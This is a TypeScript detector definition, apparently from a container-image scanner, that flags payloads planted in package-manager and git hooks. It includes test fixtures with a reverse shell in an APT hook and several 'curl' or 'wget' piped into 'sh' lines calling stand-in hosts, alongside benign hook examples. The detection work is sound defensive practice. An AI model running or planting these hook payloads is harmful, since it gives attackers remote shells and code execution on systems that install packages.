import type { Detector } from './detector.ts';
import { plantedHooks } from './planted-hook.ts';

/** Payloads in the hooks of package managers and of git. */
export const packageHook: Detector = {
  id: 'package-hook',
  version: 1,
  title: 'Makes a payload run whenever packages are installed.',
  attack: ['T1546.016', 'T1195.002'],
  description: `
apt, dpkg, apk, yum, npm, pip and git run hooks. Maintainer scripts of a distribution do housekeeping; one that downloads
code and runs it, opens a shell or starts a miner came with a package that was tampered with, or waits for the next
\`apt-get install\` in a daughter image. *Malicious* or *suspicious* as the payload is; a hook alone is nothing.
`,
  fires: [
    {
      name: 'after every apt-get',
      image: {
        files: {
          '/etc/apt/apt.conf.d/99x': 'DPkg::Post-Invoke {"bash -i >& /dev/tcp/192.0.2.44/8443 0>&1";};\n',
        },
      },
    },
    {
      name: 'a tampered maintainer script',
      image: {
        files: { '/var/lib/dpkg/info/tool.postinst': '#!/bin/sh\nset -e\nwget -qO- http://203.0.113.9/x | sh\n' },
      },
    },
    {
      name: 'written at start',
      image: {
        cmd: [
          'sh',
          '-c',
          `echo 'APT::Update::Pre-Invoke {"curl -s http://203.0.113.9/x | sh";};' > /etc/apt/apt.conf.d/00u; exec app`,
        ],
      },
    },
    {
      name: 'a hook of git',
      severity: 'suspicious',
      image: {
        cmd: [
          'sh',
          '-c',
          'printf "#!/bin/sh\\ncurl -fsSL https://files.example/x | sh\\n" > /src/.git/hooks/post-checkout; exec app',
        ],
      },
    },
  ],
  silent: [
    {
      name: 'keeping images small',
      image: {
        files: {
          '/etc/apt/apt.conf.d/docker-clean': 'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };\n',
        },
      },
    },
    {
      name: 'a maintainer script',
      image: {
        files: {
          '/var/lib/dpkg/info/app.postinst':
            '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then\n  adduser --system app\n  deb-systemd-invoke start app || true\nfi\n',
        },
      },
    },
    {
      name: 'a linter before every commit',
      image: { cmd: ['sh', '-c', 'echo "npm run lint" > .git/hooks/pre-commit; exec app'] },
    },
  ],
  detect: (scene) =>
    plantedHooks(scene, {
      events: ['package', 'commit'],
      starts: ['package-hook', 'project-script', 'git-hook'],
      when: 'whenever packages are installed or git is used',
    }),
};
